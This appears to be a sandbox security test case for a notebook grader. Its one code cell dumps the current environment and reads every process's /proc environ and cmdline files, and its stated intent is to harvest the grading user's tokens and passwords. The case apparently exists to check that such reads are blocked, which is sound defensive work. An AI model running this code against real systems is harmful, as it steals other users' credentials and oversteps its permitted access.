"""The environment of this process and of all others is printed."""

INTENT = "tokens and passwords of the grader's user"
EXPECTED = {}
DESTRUCTIVE = True
CELLS = [
    """
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        with open(path, "rb") as stream:
            print(path, stream.read())
    except OSError as error:
        print(path, error)
"""
]
